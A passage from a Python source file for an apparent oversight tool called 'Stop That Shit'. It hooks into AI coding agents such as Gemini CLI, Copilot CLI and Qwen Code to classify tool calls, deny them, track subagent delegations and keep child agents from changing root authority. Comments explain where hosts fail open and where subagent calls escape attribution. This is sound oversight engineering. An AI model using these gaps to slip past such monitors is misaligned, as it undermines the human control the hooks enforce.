        return {"name": name, "mutability": "write", "affectedPaths": paths,
                "hashIntent": hash_hit, "dependencyIntent": dependency_hit}

    def _task(self, name: str, args: dict) -> dict:
        count, unbounded = omp_task_shape(args)
        action = {"name": name, "mutability": "delegate", "delegationCount": count}
        if unbounded:
            action["unboundedDelegation"] = True
        return action

    def _hub(self, name: str, args: dict) -> dict:
        op = args.get("op")
        if op in ("start", "restart") and "application" in args:
            # Starts a program from an argv: the same command through the shell.
            return argv_action(name, args.get("application"), args.get("args"), args.get("env"))
        action = {"name": name, "mutability": _OMP_HUB_OPS.get(op, "unknown")}
        if op == "send" and not _is_text(args.get("name")):
            action["delegationLifecycleUnproven"] = True  # a message to an agent, not a process
        return action

    def _spawner(self, name: str, args: dict) -> dict:
        return {"name": name, "mutability": "unknown", "delegationLifecycleUnproven": True}

    # ---- events -------------------------------------------------------------
    def on_session_start(self, payload: dict, body: dict, store: Store, name: str) -> Optional[HookCall]:
        flag = _ctx(body).get("flag")
        if not _is_text(flag):
            return None
        try:
            session, root = self.session_and_root(payload, body, store)
        except _LinkDamaged as exc:
            return _block(name, "%s: %s" % (exc.error["code"], exc.error["message"]))
        if session is None or root != session:
            return None  # children see the same argv: the flag belongs to the root only
        prompt = self.normalize_prompt(flag.strip())
        if not prompt.lower().startswith("$stop-that-shit"):
            prompt = "$stop-that-shit " + prompt
        event = self.envelope("prompt.submit", root, prompt=prompt, host={"family": self.family})
        return ShimCall(name, event, session_id=session, root=root, store=store)

    def on_command(self, payload: dict, body: dict, store: Store, name: str) -> Optional[HookCall]:
        args = body.get("args")
        args = args.strip() if isinstance(args, str) else ""
        try:
            session, root = self.session_and_root(payload, body, store)
        except _LinkDamaged as exc:
            return _block(name, "%s: %s" % (exc.error["code"], exc.error["message"]))
        if session is None:
            return None
        if root != session:
            return _block(name, "Stop That Shit: child commands cannot change root authority; "
                                "run /sts in the main session.", session)
        text = "$stop-that-shit" + (" " + args if args else "")
        return self.prompt_call(name, payload, body, store, text, session, root)

    def render(self, result: CoreResult, call: HookCall) -> str:
        if call.host_event == "command:sts" and result.kind == "none" \
                and getattr(call, "store", None) is not None and call.event is not None:
            # A command always answers visibly, even when the contract did not change.
            line = current_context(call.store, call.root)
            if line:
                return _json({"context": line})
        return super().render(result, call)

    def on_input(self, payload: dict, body: dict, store: Store, name: str) -> Optional[HookCall]:
        if self.event_of(body).get("source") not in _OMP_INPUT_SOURCES:
            return None
        try:
            session, root = self.session_and_root(payload, body, store)
        except _LinkDamaged as exc:
            return _block(name, "%s: %s" % (exc.error["code"], exc.error["message"]))
        if session is None or root != session:
            return None  # a child's input never grants authority
        return super().on_input(payload, body, store, name)

    def on_agent_start(self, payload: dict, body: dict, store: Store, name: str) -> Optional[HookCall]:
        try:
            session, root = self.session_and_root(payload, body, store)
        except _LinkDamaged as exc:
            return ShimCall(name, None, answer=CoreResult(
                "context", "%s: %s" % (exc.error["code"], exc.error["message"])))
        if session is None:
            return None
        # The prompt here may be model-written (a child's assignment): never parsed.
        event = self.envelope("session.start", root, host={"family": self.family},
                              **self.fields(session, root))
        return ShimCall(name, event, session_id=session, root=root, store=store,
                        child=root != session)

    def result_fact(self, event: dict) -> Optional[dict]:
        if event.get("toolName") != "task":
            return None
        details = event.get("details") if isinstance(event.get("details"), dict) else {}
        results = details.get("results")
        joined = (isinstance(event.get("content"), list) and isinstance(event.get("isError"), bool)
                  and isinstance(results, list) and not details.get("async")
                  and not any(isinstance(r, dict) and r.get("aborted") is True for r in results))
        return {"lifecycle": "joined" if joined else "unknown"}

    def on_lifecycle(self, payload: dict, body: dict, store: Store, name: str) -> Optional[HookCall]:
        event = self.event_of(body) or body
        call_id, child_id, status = event.get("parentToolCallId"), event.get("id"), event.get("status")
        try:
            session, root = self.session_and_root(payload, body, store)
        except _LinkDamaged:
            return None
        if session is None or not _is_text(call_id) or not _is_text(child_id):
            return None
        if _is_text(event.get("sessionFile")):
            try:
                omp_write_parent(store, event["sessionFile"], root)
            except OSError:
                pass  # the child then falls back to the shim's process-root hint
        # The caller and call are part of the id, so a late completion of an older
        # call can never free a newer one.
        agent = json.dumps([session, call_id, child_id], ensure_ascii=False, separators=(",", ":"))
        if status == "started":
            fact = {"id": call_id, "lifecycle": "running", "agentId": agent}
            after = self.envelope("action.after", root, action=fact, **self.fields(session, root))
            return ShimCall(name, after, render=False, session_id=session, root=root, store=store)
        if status in ("completed", "failed"):
            stop = self.envelope("subagent.stop", root, agentId=agent, **self.fields(session, root))
            return ShimCall(name, stop, render=False, session_id=session, root=root, store=store)
        return None  # aborted: the child may still hold its slot

    def on_approval(self, payload: dict, body: dict, store: Store, name: str) -> Optional[HookCall]:
        event = self.event_of(body)
        call_id = event.get("toolCallId")
        if event.get("approved") is not False or event.get("toolName") != "task" \
                or not _is_text(call_id):
            return None
        try:
            session, root = self.session_and_root(payload, body, store)
        except _LinkDamaged:
            return None
        if session is None or (_is_text(event.get("sessionId")) and event["sessionId"] != session):
            return None
        fact = {"id": call_id, "lifecycle": "not_started"}
        after = self.envelope("action.after", root, action=fact, **self.fields(session, root))
        return ShimCall(name, after, render=False, session_id=session, root=root, store=store)


HOST_ADAPTERS_B: Dict[str, Adapter] = {
    "hermes": HermesAdapter(),
    "opencode": OpenCodeAdapter(),
    "pi": PiAdapter(),
    "omp": OmpAdapter(),
}


###############################################################################
# Adapters: Gemini CLI, Copilot CLI and Qwen Code
#
# Three command-hook hosts, each with its own answer format: Gemini CLI
# 0.61 denies only with {"decision": "deny"} (a Claude-style
# permissionDecision is ignored there), Copilot CLI 1.0 with a top-level
# {"permissionDecision": "deny"} (camelCase hooks), and Qwen Code 0.24, a
# Gemini fork with Claude's event names, with Claude's hookSpecificOutput.
# All three fail open on an answer that is not JSON, so sts always prints
# JSON or nothing, and a crash inside sts is caught and, while armed,
# answered with a deny like on every host.
#
# Gemini and Copilot give a tool call no id.  A delegation still needs one
# to hold its place in the agents=N ledger, so these adapters name the call
# by the host's timestamp and a digest of the tool name and input; the
# result hook of the same call carries the same input, so the digest finds
# the reservation again, and only when exactly one open reservation has it.
###############################################################################


def _call_digest(tool: str, tool_input: Any) -> str:
    """A short digest of one tool call's name and input (key order ignored)."""
    text = json.dumps([tool, tool_input], sort_keys=True, ensure_ascii=False,
                      separators=(",", ":"), default=str)
    return sha256_hex(text.encode("utf-8"))[:16]


def _stamped_call_id(host: str, stamp: Any, tool: str, tool_input: Any) -> str:
    """The id of a delegation call on a host that gives none: host, its
    timestamp and the digest, so two calls differ even with equal input."""
    return "%s:%s:%s" % (host, stamp if isinstance(stamp, (str, int)) else "-",
                         _call_digest(tool, tool_input))


def _reservation_by_digest(store: Store, root: str, host: str, tool: str, tool_input: Any,
                           source: Optional[str] = None) -> Optional[str]:
    """The stamped id of the one open reservation of this call (same digest,
    made by `source`, a child, or by the root when None); None when there is
    none or more than one (never a guess).  Lock-free read."""
    suffix = ":" + _call_digest(tool, tool_input)
    reservations = store.load(session_key(root)).state["delegation"].get("reservations")
    found = []
    for item in (reservations or {}).values():
        key = item.get("actionId") if isinstance(item, dict) else None
        if not isinstance(key, str):
            continue
        maker, raw = None, key
        if key.startswith("["):  # a child's call, namespaced by the core
            try:
                maker, raw = json.loads(key)
            except (ValueError, TypeError):
                continue
        if maker == source and isinstance(raw, str) and raw.startswith(host + ":") \
                and raw.endswith(suffix):
            found.append(raw)
    return found[0] if len(found) == 1 else None


class _NewHostAdapter(_CommandHookAdapter):
    """What Gemini CLI, Copilot CLI and Qwen Code share: the table-driven
    classification of the command-hook hosts, a cwd that follows a shell
    tool's own folder argument, and delegation ids for hosts that give none."""

    STAMPED_IDS = False  # the host gives tool calls no id

    def _spawner(self, name: str, tool_input: dict) -> dict:
        # Runs code that can call any tool, agents included.
        return {"name": name, "mutability": "unknown", "delegationLifecycleUnproven": True}

    def _wakes_agent(self, name: str, tool_input: dict) -> dict:
        # A message to a running or idle agent starts a new turn the ledger
        # cannot tell apart from the first.
        return {"name": name, "mutability": "control", "delegationLifecycleUnproven": True}

    def _unbounded(self, name: str, tool_input: dict) -> dict:
        return {"name": name, "mutability": "delegate", "unboundedDelegation": True}

    def pre_tool(self, payload: dict, store: Store, name: str, session: str, root: str,
                 tool: Any, tool_input: Any, call_id: Any) -> Optional[HookCall]:
        """action.before for `root`, judged for `session` (a child when they differ)."""
        action = self.classify(tool, tool_input) if _is_text(tool) else unreadable_call()
        if not _is_text(call_id) and self.STAMPED_IDS and _needs_call_id(action):
            call_id = _stamped_call_id(self.host, payload.get("timestamp"), tool, tool_input)
        if _is_text(call_id):
            action["id"] = call_id
        elif _needs_call_id(action):
            return None  # a delegation without an id cannot hold a place in the ledger
        cwd = payload.get("cwd") if isinstance(payload.get("cwd"), str) else None
        if cwd:
            action["cwd"] = cwd
        if _is_text(tool):
            # The shell tool's own folder argument (Gemini dir_path, Qwen
            # directory) re-anchors its targets there; see ADAPTER_TOOLS.
            place_call(self.host, tool, action, tool_input, cwd)
        fields = {"sourceSessionId": session} if session != root else {}
        event = self.envelope("action.before", root, action=action,
                              turnId=payload.get("prompt_id"), host=self.host_meta(payload),
                              **fields)
        return HookCall(name, event, tool_call=True, session_id=session)

    def on_pre_tool(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        session = self.session_of(payload)
        if session is None:
            return None
        call_id = payload.get("tool_use_id") or payload.get("tool_call_id")
        return self.pre_tool(payload, store, name, session, session, payload.get("tool_name"),
                             payload.get("tool_input"), call_id)


# ---- Gemini CLI 0.61 --------------------------------------------------------
# The subagent tool is invoke_agent; a subagent's own calls arrive with the
# parent's session id and no marker, so they are judged by the parent's
# contract (which is right) but cannot be told apart from the parent's.
_GEMINI_CONTEXT_OPEN, _GEMINI_CONTEXT_CLOSE = "<hook_context>", "</hook_context>"
_GEMINI_AGENT_TOOLS = ("invoke_agent", "codebase_investigator", "cli_help", "generalist",
                       "browser_agent")


class GeminiAdapter(_NewHostAdapter):
    """Gemini CLI command hooks (settings.json `hooks`)."""

    host = "gemini"
    family = "gemini-cli"
    EVENTS = {
        "SessionStart": "on_session_start",
        "BeforeAgent": "on_prompt",
        "BeforeTool": "on_pre_tool",
        "AfterTool": "on_post_tool",
        "SessionEnd": "on_session_end",
    }
    # Gemini adds additionalContext to the model's turn on these two only; a
    # watch note on BeforeTool is audited but not shown.
    CONTEXT_EVENTS = frozenset(("SessionStart", "BeforeAgent"))
    TOOLS = {
        "write_file": "_write_tool", "replace": "_write_tool", "save_memory": "write",
        "run_shell_command": "_shell",
        **{name: "delegate" for name in _GEMINI_AGENT_TOOLS},
        **{name: "read" for name in (
            "read_file", "read_many_files", "list_directory", "glob", "grep_search",
            "search_file_content", "google_web_search", "web_fetch", "get_internal_docs",
            "read_mcp_resource", "list_mcp_resources", "list_background_processes",
            "read_background_output", "tracker_get_task", "tracker_list_tasks",
            "tracker_visualize", "take_snapshot")},
        **{name: "control" for name in (
            "write_todos", "ask_user", "enter_plan_mode", "exit_plan_mode", "update_topic",
            "activate_skill", "complete_task", "tracker_create_task", "tracker_update_task",
            "tracker_add_dependency")},
    }
    STAMPED_IDS = True

    def prompt_text(self, payload: dict) -> Optional[str]:
        # Gemini puts the SessionStart context in front of the first prompt as
        # <hook_context>...</hook_context> (with < and > of the context itself
        # escaped), so the user's directive line starts after those blocks.
        prompt = payload.get("prompt")
        if not isinstance(prompt, str):
            return None
        rest = prompt.lstrip()
        while rest.startswith(_GEMINI_CONTEXT_OPEN):
            end = rest.find(_GEMINI_CONTEXT_CLOSE)
            if end < 0:
                break
            rest = rest[end + len(_GEMINI_CONTEXT_CLOSE):].lstrip()
        return rest if rest != prompt.lstrip() else prompt

    def render(self, result: CoreResult, call: HookCall) -> str:
        if result.kind == "deny":
            return _json({"decision": "deny",
                          "reason": result.text or "Stop That Shit denied this call."})
        if result.kind == "prompt-error":  # BeforeAgent: the turn is blocked, the user sees why
            return _json({"decision": "block", "reason": _rejected_text(result)})
        if result.kind == "context" and result.text and call.render \
                and call.host_event in self.CONTEXT_EVENTS:
            return _json({"hookSpecificOutput": {
                "hookEventName": call.host_event, "additionalContext": result.text}})
        return ""

    def on_post_tool(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        # invoke_agent returns when its subagent has finished: the whole call joined.
        session = self.session_of(payload)
        tool = payload.get("tool_name")
        if session is None or tool not in _GEMINI_AGENT_TOOLS:
            return None
        call_id = _reservation_by_digest(store, session, self.host, tool,
                                         payload.get("tool_input"))
        if call_id is None:
            return None
        fact = {"id": call_id, "lifecycle": "joined"}
        return HookCall(name, self.envelope("action.after", session, action=fact), render=False)


# ---- Copilot CLI 1.0 (camelCase hooks) --------------------------------------
# Install writes the camelCase flavour (version-1 hook files, `bash` commands):
# Copilot's own tool names reach the hook unchanged, and a subagent's calls
# carry agentId/parentAgentId.  The PascalCase flavour renames tools to
# Claude's names and carries no agent marker.  camelCase stdin names no
# event, so the installed command passes it as an argument and run_hook adds
# it to the payload as hook_event_name.
_COPILOT_AGENT_TOOL = "task"


def _copilot_patch_text(tool_input: Any) -> Any:
    if isinstance(tool_input, str):
        return tool_input
    return _first_text(tool_input, "input", "patch", "command", "content")


class CopilotAdapter(_NewHostAdapter):
    """GitHub Copilot CLI command hooks (~/.copilot/hooks/*.json, camelCase events)."""

    host = "copilot"
    family = "copilot-cli"
    EVENTS = {
        "sessionStart": "on_session_start",
        "userPromptSubmitted": "on_prompt",
        "preToolUse": "on_pre_tool",
        "postToolUse": "on_post_tool",
        "subagentStart": "on_subagent_start",
        "subagentStop": "on_subagent_stop",
    }
    CONTEXT_EVENTS = frozenset(("sessionStart", "userPromptSubmitted", "subagentStart"))
    TOOLS = {
        "bash": "_shell", "powershell": "_powershell",
        "create": "_create", "edit": "_edit", "str_replace_editor": "_str_replace_editor",
        "apply_patch": "_patch",
        _COPILOT_AGENT_TOOL: "delegate", "write_agent": "_wakes_agent",
        # Input to a running shell: what it does depends on that program.
        "write_bash": "unknown", "write_powershell": "unknown",
        **{name: "read" for name in (
            "view", "grep", "glob", "read_bash", "read_powershell", "list_bash",
            "list_powershell", "lexical_code_search", "semantic_code_search", "web_fetch",
            "fetch_copilot_cli_documentation", "session_store_sql", "read_agent",
            "list_agents")},
        # sql works on the session's own SQLite database (todos), not the repository.
        **{name: "control" for name in (
            "stop_bash", "stop_powershell", "sql", "ask_user", "exit_plan_mode",
            "report_intent", "update_todo")},
        "skill": "_skill",
    }
    STAMPED_IDS = True

    def event_name(self, payload: dict) -> Optional[str]:
        name = payload.get("hook_event_name")
        return name if isinstance(name, str) else None

    def session_of(self, payload: dict) -> Optional[str]:
        return _text_or_none(payload.get("sessionId")) or _text_or_none(payload.get("session_id"))

    def host_meta(self, payload: dict) -> dict:
        meta = {"family": self.family}
        for key, target in (("agentId", "agentId"), ("agentType", "agentType")):
            if isinstance(payload.get(key), str):
                meta[target] = payload[key]
        return meta

    def governing(self, payload: dict, store: Store) -> Tuple[Optional[str], str]:
        """(the session that sent the event, the root whose contract governs it).
        A subagent's events carry its own id as sessionId and its parent's as
        parentAgentId; the link is stored so that nested agents find the root."""
        session = self.session_of(payload)
        if session is None:
            return None, ""
        parent = _text_or_none(payload.get("parentAgentId"))
        if parent == session:
            parent = None
        return session, resolve_root(store, session, parent)

    def render(self, result: CoreResult, call: HookCall) -> str:
        if result.kind == "deny":
            return _json({"permissionDecision": "deny", "permissionDecisionReason":
                          result.text or "Stop That Shit denied this call."})
        if result.kind == "prompt-error":
            # A prompt cannot be refused here: the rejection reaches the model instead.
            return _json({"additionalContext": _rejected_text(result)})
        if result.kind == "context" and result.text and call.render \
                and call.host_event in self.CONTEXT_EVENTS:
            return _json({"additionalContext": result.text})
        return ""

    # ---- tools --------------------------------------------------------------
    def _create(self, name: str, tool_input: dict) -> dict:
        return file_write_action(name, tool_input.get("path"), tool_input.get("file_text"))

    def _edit(self, name: str, tool_input: dict) -> dict:
        return file_write_action(name, tool_input.get("path"), tool_input.get("new_str"),
                                 tool_input.get("old_str"), whole_file=False)

    def _str_replace_editor(self, name: str, tool_input: dict) -> dict:
        command = tool_input.get("command")
        if command == "view":
            return {"name": name, "mutability": "read"}
        if command == "create":
            return self._create(name, tool_input)
        return self._edit(name, tool_input)  # str_replace, insert, undo_edit: a write

    def _patch(self, name: str, tool_input: Any) -> dict:
        return patch_action(name, _copilot_patch_text(tool_input))

    def classify(self, name: str, tool_input: Any) -> dict:
        if name == "apply_patch" and isinstance(tool_input, str):
            return patch_action(name, tool_input)
        return super().classify(name, tool_input)

    # ---- events -------------------------------------------------------------
    def on_session_start(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        session, root = self.governing(payload, store)
        if session is None:
            return None
        fields = {"sourceSessionId": session} if session != root else {}
        return HookCall(name, self.envelope("session.start", root, host=self.host_meta(payload),
                                            **fields))

    def on_prompt(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        session, root = self.governing(payload, store)
        prompt = payload.get("prompt")
        if session is None or not isinstance(prompt, str):
            return None
        if root != session or _is_text(payload.get("agentId")):
            # A subagent's prompt is its parent model's text: it gets the
            # root's contract as context and never sets it.
            return HookCall(name, self.envelope("session.start", root, sourceSessionId=session,
                                                host=self.host_meta(payload)))
        return HookCall(name, self.envelope("prompt.submit", root, prompt=prompt,
                                            host=self.host_meta(payload)))

    def on_pre_tool(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        session, root = self.governing(payload, store)
        if session is None:
            return None
        return self.pre_tool(payload, store, name, session, root, payload.get("toolName"),
                             payload.get("toolArgs"), None)

    def on_post_tool(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        if payload.get("toolName") != _COPILOT_AGENT_TOOL:
            return None
        session, root = self.governing(payload, store)
        if session is None:
            return None
        args = payload.get("toolArgs")
        call_id = _reservation_by_digest(store, root, self.host, _COPILOT_AGENT_TOOL, args,
                                         session if session != root else None)
        if call_id is None:
            return None
        background = isinstance(args, dict) and args.get("mode") == "background"
        fact = {"id": call_id, "lifecycle": "running" if background else "joined"}
        fields = {"sourceSessionId": session} if session != root else {}
        return HookCall(name, self.envelope("action.after", root, action=fact, **fields),
                        render=False)

    def on_subagent_start(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        session, root = self.governing(payload, store)
        agent = _text_or_none(payload.get("agentId"))
        if session is None or agent is None:
            return None
        if agent != root:
            link_child(store, agent, root)  # the child's own events find the root
        # Copilot names no call here: a child binds only to the one open call.
        event = self.envelope("subagent.start", root, agentId=agent,
                              reservationId=_sole_open_reservation(store, root),
                              **({"sourceSessionId": session} if session != root else {}))
        return HookCall(name, event, render=False)

    def on_subagent_stop(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        session, root = self.governing(payload, store)
        agent = _text_or_none(payload.get("agentId"))
        if session is None or agent is None:
            return None
        return HookCall(name, self.envelope("subagent.stop", root, agentId=agent), render=False)


# ---- Qwen Code 0.24 ---------------------------------------------------------
# Claude's event names and answer format, Qwen's own tool names (the host
# maps legacy names such as `task` and `replace` to `agent` and `edit` before
# the hook runs).  UserPromptSubmit fires again after every tool result, with
# an empty prompt or text the host assembled; only the user's own text, which
# Qwen passes as `submitted_prompt`, or a non-empty prompt, ever sets the
# contract.  A subagent's calls carry agent_id and the parent's session id.
_QWEN_BACKGROUND_HEAD = "Background agent launched successfully"


class QwenAdapter(_NewHostAdapter):
    """Qwen Code command hooks (settings.json `hooks`, Claude-style events)."""

    host = "qwen"
    family = "qwen-code"
    EVENTS = {
        "SessionStart": "on_session_start",
        "UserPromptSubmit": "on_prompt",
        "PreToolUse": "on_pre_tool",
        "PostToolUse": "on_post_tool",
        "PostToolUseFailure": "on_post_tool",
        "SubagentStart": "on_subagent_start",
        "SubagentStop": "on_subagent_stop",
        "SessionEnd": "on_session_end",
    }
    CONTEXT_EVENTS = frozenset(("SessionStart", "UserPromptSubmit", "SubagentStart",
                                "PreToolUse"))
    TOOLS = {
        "write_file": "_write_tool", "edit": "_write_tool", "notebook_edit": "_notebook",
        "save_memory": "write", "enter_worktree": "write",
        "run_shell_command": "_shell", "monitor": "_monitor",
        "agent": "delegate", "workflow": "_unbounded", "team_create": "_unbounded",
        "create_sub_session": "_spawner", "exec": "_exec",
        "send_message": "_wakes_agent", "tool_call": "_tool_call",
        # Text scheduled now comes back later as a prompt (as in Claude Code).
        "cron_create": "_scheduled_prompt", "loop_wakeup": "_scheduled_prompt",
        "skill": "_skill",
        **{name: "read" for name in (
            "read_file", "glob", "grep_search", "list_directory", "web_fetch", "web_search",
            "lsp", "read_mcp_resource", "tool_search", "list_agents", "get_goal",
            "zoom_image", "display_image", "cron_list", "task_list",
            "omni_recall_media_memory")},
        **{name: "control" for name in (
            "todo_write", "exit_plan_mode", "enter_plan_mode", "ask_user_question",
            "cron_delete", "task_create", "task_update",
            "task_stop", "structured_output", "report_findings", "update_goal",
            "propose_goal", "request_shutdown", "team_delete", "team_plan_approval",
            "exit_worktree")},
    }
    _TOOL_CALL_DEPTH = 4

    def _notebook(self, name: str, tool_input: dict) -> dict:
        action = file_write_action(name, _first_text(tool_input, "notebook_path"),
                                   tool_input.get("new_source"))
        action["dependencyIntent"] = False
        return action

    def _monitor(self, name: str, tool_input: dict) -> dict:
        if "command" not in tool_input:
            return {"name": name, "mutability": "unknown"}
        return shell_action(name, tool_input.get("command"))

    def _exec(self, name: str, tool_input: dict) -> dict:
        """Code that can call any tool, agents included: the shell's analysis of
        that code, and never countable."""
        language = _first_text(tool_input, "language", "lang") or "js"
        action = code_action(name, language, _first_text(tool_input, "code", "script"))
        action["delegationLifecycleUnproven"] = True
        return action

    def _tool_call(self, name: str, tool_input: dict, depth: int = 0) -> dict:
        """The deferred-tool bridge: judged as the tool it calls.  Qwen resolves
        it before the hook runs; a bridge that still arrives keeps the inner
        tool's bucket under the outer name."""
        inner, args = tool_input.get("name"), tool_input.get("arguments")
        if not _is_text(inner) or depth >= self._TOOL_CALL_DEPTH:
            return {"name": name, "mutability": "unknown"}
        if inner == "tool_call" and isinstance(args, dict):
            action = self._tool_call(name, args, depth + 1)
        else:
            action = self.classify(inner, args)
        return dict(action, name=name)

    def prompt_text(self, payload: dict) -> Optional[str]:
        submitted = payload.get("submitted_prompt")
        if _is_text(submitted):
            return submitted  # what the user typed; `prompt` may hold expanded @file text
        prompt = payload.get("prompt")
        return prompt if _is_text(prompt) else None

    def on_prompt(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        if _is_text(payload.get("agent_id")):
            return None  # a subagent's prompt: its parent model's text
        return super().on_prompt(payload, store, name)

    def on_post_tool(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        session = self.session_of(payload)
        call_id = payload.get("tool_use_id") or payload.get("tool_call_id")
        if session is None or not _is_text(call_id) or payload.get("tool_name") != "agent":
            return None
        fact: dict = {"id": call_id}
        if name == "PostToolUseFailure":
            fact["lifecycle"] = "unknown"
        else:
            fact.update(self.agent_result(payload.get("tool_response")))
        return HookCall(name, self.envelope("action.after", session, action=fact), render=False)

    @staticmethod
    def agent_result(response: Any) -> dict:
        """A background launch keeps running (its task id binds the child);
        anything else means the agent has ended, or never started."""
        text = response.get("llmContent") if isinstance(response, dict) else response
        if isinstance(text, list):
            text = "\n".join(p.get("text", "") for p in text if isinstance(p, dict)
                             and isinstance(p.get("text"), str))
        if not isinstance(text, str):
            return {"lifecycle": "unknown"}
        if not text.startswith(_QWEN_BACKGROUND_HEAD):
            return {"lifecycle": "joined"}
        fact = {"lifecycle": "running"}
        for line in text.split("\n"):
            if line.startswith("task_id: "):
                agent = line[len("task_id: "):].split(" ")[0].strip()
                if agent:
                    fact["agentId"] = agent
                break
        return fact

    def on_subagent_start(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        session = self.session_of(payload)
        agent = payload.get("agent_id")
        if session is None:
            return None
        return HookCall(name, self.envelope("subagent.start", session,
                                            agentId=agent if _is_text(agent) else None))

    def on_subagent_stop(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        # A background agent's end reaches hooks only here (its completion
        # notice is not a UserPromptSubmit), so this frees its place.
        session = self.session_of(payload)
        agent = _text_or_none(payload.get("agent_id"))
        if session is None or agent is None:
            return None
        return HookCall(name, self.envelope("subagent.stop", session, agentId=agent),
                        render=False)


HOST_ADAPTERS_C: Dict[str, Adapter] = {
    "gemini": GeminiAdapter(),
    "copilot": CopilotAdapter(),
    "qwen": QwenAdapter(),
}


###############################################################################
# Install, uninstall and doctor
#
# Owns wiring sts into each host's configuration: the import-form hook
# command (see hook_argv), merging JSON configs without losing the user's keys,
# backups, idempotence, the shims' copies, and the doctor's checks.
#
# Every edit is planned first (path, old bytes, new bytes), so --dry-run and
# the real run share one code path, and a file is only written when its bytes
# change: that is what makes a second install a no-op.  JSON is edited by
# splicing text at spans found by a small scanner, so the user's formatting of
# everything else survives byte for byte.  TOML (Codex) and YAML (Hermes) get
# only the few insertions whose safety can be checked line by line; anything
# else is left to the user, with the exact lines to add, and doctor checks them.
#
# Codex trust: Codex runs only hooks the user trusted.  install never trusts on
# its own; `install codex --trust` asks `codex app-server` to trust exactly the
# hooks in our file that run our command, with the hash Codex reports, because
# trust is Codex's consent step and the flag is the user giving it.
#
# <STS_HOME>/installed.json: "paths" (every file install wrote; the tamper
# check protects them) and "installs" (per host, scope and folder: commands,
# files with what was created in them, folders made) for uninstall.
###############################################################################

# Events and hook timeouts per command-hook host.  Tool hooks get 10 s, the rest
# 5 s: well above a hook's cost (including a 1.5 s lock wait), well below what
# a user would wait for.  A tool hook sees every tool; a PostToolUse hook only
# the tools that start or wait for subagents, whose results the ledger needs.
_CODEX_POST_MATCHER = ("^(spawn_agent|wait_agent|Agent|multi_agent_v1wait_agent|"
                       "collaborationspawn_agent|collaborationwait_agent)$")
_GEMINI_POST_MATCHER = "^(%s)$" % "|".join(_GEMINI_AGENT_TOOLS)
_HOOK_EVENTS: Dict[str, Tuple[Tuple[str, Optional[str], int], ...]] = {
    "codex": (
        ("SessionStart", None, 5),
        ("UserPromptSubmit", None, 5),
        ("PreToolUse", ".*", 10),
        ("PostToolUse", _CODEX_POST_MATCHER, 10),
        ("SessionEnd", None, 5),
    ),
    "claude": (
        ("SessionStart", None, 5),
        ("UserPromptSubmit", None, 5),
        ("PreToolUse", "*", 10),
        ("PostToolUse", "*", 10),
        ("PostToolUseFailure", "*", 10),
        ("PermissionDenied", "*", 10),
        ("SubagentStart", None, 5),
        ("SessionEnd", None, 5),
    ),
    # Gemini CLI counts hook timeouts in milliseconds; its matcher is a regex.
    "gemini": (
        ("SessionStart", None, 5000),
        ("BeforeAgent", None, 5000),
        ("BeforeTool", ".*", 10000),
        ("AfterTool", _GEMINI_POST_MATCHER, 10000),
        ("SessionEnd", None, 5000),
    ),
    # Qwen Code counts seconds (it reads large values as old-style milliseconds).
    "qwen": (
        ("SessionStart", None, 5),
        ("UserPromptSubmit", None, 5),
        ("PreToolUse", ".*", 10),
        ("PostToolUse", "^agent$", 10),
        ("PostToolUseFailure", "^agent$", 10),
        ("SubagentStart", None, 5),
        ("SubagentStop", None, 5),
        ("SessionEnd", None, 5),
    ),
}

# Copilot CLI: one hook file of its own (version 1, camelCase events), each
# command ending in the event name, because Copilot's stdin does not carry it.
_COPILOT_EVENTS: Tuple[Tuple[str, int], ...] = (
    ("sessionStart", 5), ("userPromptSubmitted", 5), ("preToolUse", 10),
    ("postToolUse", 10), ("subagentStart", 5), ("subagentStop", 5),
)
_COPILOT_HOOK_FILE = "stop-that-shit.json"

# Shim files per in-process host: (source under host_shims/, destination under
# the host's base folder).  Copies, not links: each copy pins this sts.py.
_SHIM_FILES: Dict[str, Tuple[Tuple[str, str], ...]] = {
    "opencode": (("opencode/stop-that-shit.js", "plugin/stop-that-shit.js"),),
    "pi": (("pi/stop-that-shit.js", "extensions/stop-that-shit.js"),),
    "omp": (("omp/stop-that-shit.js", "extensions/stop-that-shit.js"),),
    "hermes": (("hermes/stop-that-shit/plugin.yaml", "plugins/stop-that-shit/plugin.yaml"),
               ("hermes/stop-that-shit/__init__.py", "plugins/stop-that-shit/__init__.py")),
}


def _env_dir(var: str, *default: str) -> str:
    value = os.environ.get(var)
    return value if value else os.path.join(os.path.expanduser("~"), *default)


def _xdg_config(*parts: str) -> str:
    base = os.environ.get("XDG_CONFIG_HOME") or os.path.join(os.path.expanduser("~"), ".config")
    return os.path.join(base, *parts)


# The per-host table: where each host reads its user and project layers (and
# the environment variable that moves the user one) and what install writes
# there.  "config" is the JSON hooks file for command-hook hosts; shim hosts
# use _SHIM_FILES instead.
_HOSTS: Dict[str, Dict[str, Any]] = {
    "codex": {"user": lambda: _env_dir("CODEX_HOME", ".codex"), "project": ".codex",
              "config": "hooks.json", "binary": "codex"},
    "claude": {"user": lambda: _env_dir("CLAUDE_CONFIG_DIR", ".claude"), "project": ".claude",
               "config": "settings.json", "binary": "claude"},
    "opencode": {"user": lambda: _xdg_config("opencode"), "project": ".opencode",
                 "binary": "opencode"},
    "pi": {"user": lambda: _env_dir("PI_CODING_AGENT_DIR", ".pi", "agent"), "project": ".pi",
           "binary": "pi"},
    "omp": {"user": lambda: _env_dir("PI_CODING_AGENT_DIR", ".omp", "agent"), "project": ".omp",
            "binary": "omp"},
    "hermes": {"user": lambda: _env_dir("HERMES_HOME", ".hermes"), "project": ".hermes",
               "binary": "hermes"},
    # GEMINI_CLI_HOME stands in for the home folder; QWEN_HOME and COPILOT_HOME
    # name the host's own folder.
    "gemini": {"user": lambda: os.path.join(os.environ.get("GEMINI_CLI_HOME")
                                            or os.path.expanduser("~"), ".gemini"),
               "project": ".gemini", "config": "settings.json", "binary": "gemini"},
    "qwen": {"user": lambda: _env_dir("QWEN_HOME", ".qwen"), "project": ".qwen",
